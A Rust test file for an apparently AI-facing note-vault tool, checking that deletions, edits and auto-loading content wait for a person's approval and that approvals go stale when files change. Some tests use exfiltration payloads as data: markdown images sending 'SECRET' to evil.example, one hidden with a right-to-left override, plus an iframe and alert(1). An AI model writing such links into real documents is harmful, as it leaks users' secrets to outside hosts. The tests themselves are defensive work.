//! Approval requests to a person, and the effects of their answers.

use serde_json::{Value, json};
use vault_steward::calls::{Answerer, Calls, Decision, Outcome, Question, Request};
use vault_steward::note::code::ErrorCode;
use vault_steward::policy::{Mode, Scope, Settings};
use vault_steward::tools::ToolError;
use vault_steward::vault::Cancel;

use crate::doors::{answered, audited, calls, request};
use crate::vault::{TestVault, vault};

fn ground() -> TestVault {
    vault(&[
        ("Old/a.md", "a\n"),
        ("Old/b.md", "b\n"),
        ("Inbox/x.md", "x\n"),
        ("Inbox/y.md", "y\n"),
        ("note.md", "note\n"),
    ])
}

#[track_caller]
fn asked(calls: &Calls, tool: &str, arguments: Value) -> Question {
    match calls.call(request(Scope::Client, tool, arguments), &Cancel::default()) {
        Outcome::Ask(question) => *question,
        Outcome::Answered(result) => panic!("not asked: {result:?}"),
    }
}

fn say(question: Question, decision: Decision) -> Outcome {
    question.answer(decision, "chat".into(), &Cancel::default())
}

#[test]
fn a_folder_is_deleted_when_a_person_says_so_and_not_before() {
    let vault = ground();
    let calls = calls(&vault, Settings::default());
    let question = || asked(&calls, "delete", json!({"path": "old"}));
    for (decision, says) in [
        (Decision::Reject, "a person refused it and said \"why?\": delete `Old`, since it deletes"),
        (Decision::Late, "nobody answered: delete `Old`, since it deletes"),
        (Decision::Withdrawn, "the call was cancelled before a person agreed: delete `Old`"),
        (Decision::Crowded, "too many questions wait for a person already"),
    ] {
        let first = question();
        assert_eq!(first.title(), "delete `Old`");
        assert_eq!(first.reasons(), ["it deletes the folder `Old` with 2 files"]);
        assert_eq!(audited(&calls).last().unwrap().decision, "asked");
        let by = Answerer { words: "why?".to_owned(), ..Answerer::from("chat") };
        let error = answered(first.answer(decision, by, &Cancel::default())).unwrap_err();
        let wanted = match decision {
            Decision::Withdrawn => ErrorCode::Cancelled,
            Decision::Crowded => ErrorCode::RateLimited,
            _ => ErrorCode::Denied,
        };
        assert_eq!(error.code, wanted);
        assert!(error.message.starts_with(says), "{}", error.message);
        assert!(vault.exists("Old/a.md"), "{decision:?}");
        let row = audited(&calls).pop().unwrap();
        assert_eq!(row.decision, "refused");
        assert_eq!(row.answered_by.is_some(), decision == Decision::Reject);
    }
    answered(say(question(), Decision::Once)).unwrap();
    assert!(!vault.exists("Old/a.md"));
    let row = audited(&calls).pop().unwrap();
    assert_eq!((row.decision.as_str(), row.answered_by.as_deref()), ("allowed", Some("chat")));
    assert!(row.change_set.is_some());
}

#[test]
fn a_call_that_is_over_leaves_its_question_open_until_it_is_decided() {
    let vault = ground();
    let calls = calls(&vault, Settings::default());
    let first = asked(&calls, "delete", json!({"path": "Old"}));
    let (number, unanswered) = (first.number(), first.unanswered());
    let pending = |question| Decision::Pending { question, shown: false };
    let error = answered(say(first, pending(number))).unwrap_err();
    assert_eq!(error.code, ErrorCode::ApprovalPending);
    let row = audited(&calls).pop().unwrap();
    assert_eq!((row.id, row.decision.as_str(), row.outcome), (number, "asked", None));
    // A call that shares the request has ended by itself.
    let second = asked(&calls, "delete", json!({"path": "Old"}));
    answered(say(second, pending(number))).unwrap_err();
    let row = audited(&calls).pop().unwrap();
    assert_eq!(
        (row.decision.as_str(), row.outcome.as_deref()),
        ("refused", Some("approval_pending"))
    );

    unanswered.settle(Decision::Once, &Answerer::from("chat"));
    let row = audited(&calls).pop().unwrap();
    assert_eq!((row.decision.as_str(), row.answered_by.as_deref()), ("allowed", Some("chat")));
    assert!(audited(&calls).iter().all(|row| row.decision != "asked"));
    assert!(vault.exists("Old/a.md"));
    let third = asked(&calls, "delete", json!({"path": "Old"}));
    third.unanswered().settle(Decision::Late, &Answerer::default());
    let row = audited(&calls).pop().unwrap();
    assert_eq!(
        (row.decision.as_str(), row.reason.as_deref()),
        ("refused", Some("nobody answered"))
    );
    // A yes for another call like it only has this one judged again, on the present state.
    answered(say(asked(&calls, "delete", json!({"path": "Old"})), Decision::Once)).unwrap();
    let error = answered(say(third, Decision::JudgeAgain)).unwrap_err();
    assert_eq!(error.code, ErrorCode::NotFound);
}

#[test]
fn an_approval_covers_exactly_the_changes_shown() {
    let vault = ground();
    let calls = calls(&vault, Settings { mode: Mode::Ask, ..Settings::default() });
    let edit = json!({"path": "note", "old_text": "note", "new_text": "changed"});
    let question = asked(&calls, "edit_file", edit);
    let diff = &question.changes()[0].diff;
    assert!(diff.contains("-note\n+changed"), "{diff}");
    vault.put("note.md", "note, and what the person typed since\n");
    let error = answered(say(question, Decision::Once)).unwrap_err();
    assert_eq!(error.code, ErrorCode::StaleRevision);
    assert!(vault.content("note.md").starts_with("note, and"));

    let question = asked(&calls, "delete", json!({"path": "Old"}));
    vault.put("Old/c.md", "new");
    vault.context.vault.rescan().unwrap();
    answered(say(question, Decision::Once)).unwrap_err();
    assert!(vault.exists("Old/a.md"));
}

#[test]
fn a_folder_in_which_a_file_changed_since_is_asked_about_again() {
    let vault = ground();
    let calls = calls(&vault, Settings::default());
    let question = asked(&calls, "delete", json!({"path": "Old"}));
    vault.put("Old/a.md", "z\n");
    let error = answered(say(question, Decision::Once)).unwrap_err();
    assert_eq!(error.code, ErrorCode::StaleRevision);
    assert!(vault.exists("Old/a.md"));
    answered(say(asked(&calls, "delete", json!({"path": "Old"})), Decision::Once)).unwrap();
}

#[test]
fn everything_that_loads_by_itself_is_named_and_every_line_can_be_seen() {
    let vault = ground();
    let calls = calls(&vault, Settings::default());
    let lines = "a line\n".repeat(30_000);
    let logo = "![logo](https://example.com/logo.png)\n";
    let evil = "![x](https://evil.example/?d=SE\u{202e}CRET)\n";
    let content = format!("{logo}{lines}{evil}");
    let question = asked(&calls, "write_file", json!({"path": "new.md", "content": content}));
    let reason = |line, address| {
        format!(
            "it adds content that loads or runs automatically to `new.md`, line {line}: the image `{address}`"
        )
    };
    assert_eq!(
        question.reasons(),
        [
            reason(1, "https://example.com/logo.png"),
            reason(30_002, "https://evil.example/?d=SECRET"),
        ]
    );
    let change = &question.changes()[0];
    assert_eq!((change.added, change.removed), (30_002, 0));
    assert!(change.more > 29_000, "{}", change.more);
    let (mut diff, mut first) = (String::new(), Some(0));
    while let Some(at) = first {
        let part = change.part(at);
        diff.push_str(&part.text);
        first = part.next;
    }
    assert_eq!(
        diff,
        format!(
            "--- a/new.md\n+++ b/new.md\n@@ -0,0 +1,30002 @@\n+{}",
            content.trim_end().replace('\n', "\n+")
        ) + "\n"
    );
    // However many files there are, each is named and counted.
    let patch: String =
        (0..60).map(|n| format!("--- /dev/null\n+++ b/p{n}.md\n@@ -0,0 +1 @@\n+{evil}")).collect();
    let question = asked(&calls, "apply_patch", json!({"patch": patch}));
    assert_eq!(question.reasons().iter().filter(|why| why.contains("evil.example")).count(), 60);
    assert!(question.changes().iter().all(|change| change.added == 1));
    assert!(question.changes().iter().all(|change| change.part(0).text.contains("evil")));
}

#[test]
fn a_file_that_is_renamed_to_something_that_runs_is_asked_about() {
    let vault = vault(&[("code.txt", "alert(1)\n"), ("page.txt", "![](https://x.example)\n")]);
    let calls = calls(&vault, Settings::default());
    for (source, destination) in [("code.txt", "code.js"), ("page.txt", "page.md")] {
        let question = asked(&calls, "move", json!({"source": source, "destination": destination}));
        assert!(question.reasons()[0].contains("loads or runs automatically"), "{destination}");
    }
    let request =
        request(Scope::Client, "move", json!({"source": "page.txt", "destination": "other.txt"}));
    answered(calls.call(request, &Cancel::default())).unwrap();
}

#[test]
fn always_holds_for_that_tool_in_that_folder_until_it_is_revoked() {
    let vault = ground();
    let settings = Settings { mode: Mode::Ask, ..Settings::default() };
    let calls = calls(&vault, settings.clone());
    let write = |path: &str| json!({"path": path, "content": "new"});
    let question = asked(&calls, "write_file", write("Inbox/x.md"));
    assert_eq!(question.folder(), Some("Inbox"));
    answered(say(question, Decision::Always)).unwrap();
    let later = self::calls(&vault, settings);
    let free = request(Scope::Client, "write_file", write("inbox/y"));
    answered(later.call(free, &Cancel::default())).unwrap();
    assert_eq!(vault.content("Inbox/y.md"), "new");
    asked(&later, "write_file", write("Inbox2/x.md"));
    asked(&later, "write_file", write("note.md"));
    asked(&later, "delete", json!({"path": "Inbox/x.md"}));
    asked(&later, "move", json!({"source": "Inbox/x.md", "destination": "out.md"}));
    let kept = later.agreements().unwrap();
    assert_eq!((kept[0].tool.as_str(), kept[0].agreed_by.as_str()), ("write_file", "chat"));
    assert!(calls.revoke(kept[0].id).unwrap());
    asked(&later, "write_file", write("Inbox/y.md"));
}

#[test]
fn files_at_the_root_and_active_content_get_no_permanent_approval() {
    let vault = ground();
    let calls = calls(&vault, Settings { mode: Mode::Ask, ..Settings::default() });
    let top = asked(&calls, "write_file", json!({"path": "note.md", "content": "new"}));
    assert_eq!(top.folder(), None);
    let remote = "![](http://127.0.0.1:9/?d=secret)";
    let inside = json!({"path": "Inbox/x.md", "content": remote});
    let question = asked(&calls, "write_file", inside.clone());
    assert_eq!(question.folder(), None);
    answered(say(question, Decision::Always)).unwrap();
    assert!(calls.agreements().unwrap().is_empty());
    assert!(vault.content("Inbox/x.md").contains(remote), "once is once");
}

#[test]
fn what_loads_by_itself_is_asked_about_in_the_usual_mode() {
    let vault = ground();
    let calls = calls(&vault, Settings::default());
    let remote = "text\n![](http://127.0.0.1:9/?d=secret)\n";
    let before = vault.snapshot();
    for (tool, arguments) in [
        ("write_file", json!({"path": "new.md", "content": remote})),
        ("edit_file", json!({"path": "note", "old_text": "note", "new_text": remote})),
        (
            "apply_patch",
            json!({"patch": "--- a/note.md\n+++ b/note.md\n@@ -1 +1 @@\n-note\n+<iframe src=\"http://x\">\n"}),
        ),
    ] {
        let question = asked(&calls, tool, arguments);
        assert!(question.reasons()[0].contains("loads or runs automatically"));
        answered(say(question, Decision::Late)).unwrap_err();
    }
    assert_eq!(vault.snapshot(), before);
    let person = request(Scope::Person, "write_file", json!({"path": "n.md", "content": remote}));
    answered(calls.call(person, &Cancel::default())).unwrap();
}

#[test]
fn a_persons_program_asks_by_itself_and_says_that_they_agreed() {
    let vault = ground();
    let calls = calls(&vault, Settings::default());
    let delete = || request(Scope::Person, "delete", json!({"path": "Old"}));
    let error = answered(calls.call(delete(), &Cancel::default())).unwrap_err();
    assert_eq!(error.code, ErrorCode::ApprovalNeeded);
    assert_eq!(error.data.unwrap()["changes"][0]["path"], "Old");
    assert!(vault.exists("Old/a.md"));
    let agreed = Request { confirmed: true, ..delete() };
    answered(calls.call(agreed, &Cancel::default())).unwrap();
    assert!(!vault.exists("Old/a.md"));
    for scope in [Scope::Client, Scope::Acp, Scope::Mcp, Scope::Voice] {
        let claims =
            Request { confirmed: true, ..request(scope, "delete", json!({"path": "Inbox"})) };
        answered(calls.call(claims, &Cancel::default())).unwrap_err();
        assert!(vault.exists("Inbox/x.md"), "{scope:?}");
    }
}

#[test]
fn what_a_person_agreed_to_is_what_they_were_shown() {
    let vault = ground();
    let settings = Settings { mode: Mode::Ask, ..Settings::default() };
    let calls = calls(&vault, settings);
    let write = |path: &str| {
        let write = request(Scope::Person, "write_file", json!({"path": path, "content": "x"}));
        answered(calls.call(Request { confirmed: true, ..write }, &Cancel::default())).unwrap();
    };
    let undo = |agreed: Option<&Value>| {
        let agreed = agreed.map(|agreed| agreed.as_str().unwrap().to_owned());
        let undo = request(Scope::Person, "undo", json!({}));
        let undo = Request { confirmed: agreed.is_some(), agreed, ..undo };
        answered(calls.call(undo, &Cancel::default()))
    };
    let shown = |error: ToolError| {
        assert_eq!(error.code, ErrorCode::ApprovalNeeded, "{}", error.text());
        error.data.unwrap()
    };
    write("First.md");
    let first = shown(undo(None).unwrap_err());
    assert_eq!(first["changes"][0]["path"], "First.md");
    // Another program writes while the request is open.
    write("Second.md");
    let refused = undo(Some(&first["identity"])).unwrap_err();
    assert!(refused.message.contains("has changed meanwhile"), "{}", refused.text());
    let second = shown(refused);
    assert_eq!(second["changes"][0]["path"], "Second.md", "it is asked again");
    assert!(vault.exists("First.md") && vault.exists("Second.md"));
    undo(Some(&second["identity"])).unwrap();
    assert!(vault.exists("First.md") && !vault.exists("Second.md"));
    // Even if its new content would need no approval.
    calls.set_mode(Some(Mode::Auto)).unwrap();
    shown(undo(Some(&second["identity"])).unwrap_err());
    assert!(vault.exists("First.md"));
}

#[test]
fn open_questions_are_refused_at_the_next_start() {
    let vault = ground();
    let settings = Settings::default();
    drop(asked(&calls(&vault, settings.clone()), "delete", json!({"path": "Old"})));
    let next = calls(&vault, settings);
    next.begin().unwrap();
    let row = audited(&next).pop().unwrap();
    assert_eq!(row.decision, "refused");
    assert_eq!(row.reason.as_deref(), Some("the steward ended before anyone answered"));
    assert!(vault.exists("Old/a.md"));
    next.end();
}

#[test]
fn a_word_in_a_large_note_is_no_large_change() {
    let vault = vault(&[("long.md", &"a line of a long note\n".repeat(1_000))]);
    let settings = Settings { bulk_bytes: 1_000, ..Settings::default() };
    let calls = calls(&vault, settings);
    let call = |arguments: Value| {
        let request = request(Scope::Client, "edit_file", arguments);
        calls.call(request, &Cancel::default())
    };
    let lines = |content: &str| json!({"path": "long", "replace_lines": {"start": 500, "end": 500}, "content": content});
    assert!(matches!(call(lines("another line")), Outcome::Answered(Ok(_))));
    assert!(vault.content("long.md").contains("another line\n"));
    let question = asked(&calls, "edit_file", lines(&"new ".repeat(300)));
    let text = &question.reasons()[0];
    assert!(text.starts_with("it changes 1") && text.ends_with("bytes at once"), "{text}");
}
